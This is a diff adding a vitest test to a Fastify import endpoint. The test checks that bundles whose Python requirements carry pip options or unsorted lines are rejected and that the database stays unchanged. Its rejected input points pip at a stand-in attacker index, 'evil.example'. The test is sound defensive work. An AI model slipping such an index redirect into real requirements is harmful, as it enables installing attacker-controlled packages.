@@ -1,4 +1,6 @@
+import { createHash } from 'node:crypto';
 import { gunzipSync } from 'node:zlib';
+import canonicalize from 'canonicalize';
 import type { FastifyInstance } from 'fastify';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { modelVersions } from '@/db/schema';
@@ -105,6 +107,25 @@ describe.each([
       expect(res.statusCode).toBe(400);
       expect((res.json() as { error: { message: string } }).error.message).toMatch(/truncated|not a gzipped tar/);
     }
+    expect(await targetState()).toEqual(before);
+  });
+
+  it('refuses a bundle carrying Python requirements a project could not set (pip options, URLs), naming the line, and changes nothing', async () => {
+    const before = await targetState();
+    const content = await readArchive(file);
+    // A well-formed bundle whose hashes all match: only the requirements' rules stop it.
+    const withRequirements = (requirements: string) => {
+      const manifest = canonicalize({ ...(JSON.parse(content.manifest) as object), python: { requirements } })!;
+      return writeArchive({ ...content, manifest, index: { ...content.index, manifestSha256: createHash('sha256').update(manifest).digest('hex'), manifestSize: Buffer.byteLength(manifest) } });
+    };
+    const res = await importFile(await withRequirements('--index-url https://evil.example/simple\nsbtiny==1.0.0\n'));
+    expect(res.statusCode).toBe(400);
+    const message = (res.json() as { error: { message: string } }).error.message;
+    expect(message).toMatch(/^the bundle file is not valid: manifest\.json: python\.requirements cannot be installed here/);
+    expect(message).toContain('line 1 (--index-url https://evil.example/simple): pip options are not allowed');
+    const unsorted = await importFile(await withRequirements('zeta==1.0\nalpha==2.0\n'));
+    expect(unsorted.statusCode).toBe(400);
+    expect((unsorted.json() as { error: { message: string } }).error.message).toMatch(/python\.requirements is not in the normalised form/);
     expect(await targetState()).toEqual(before);
   });
 
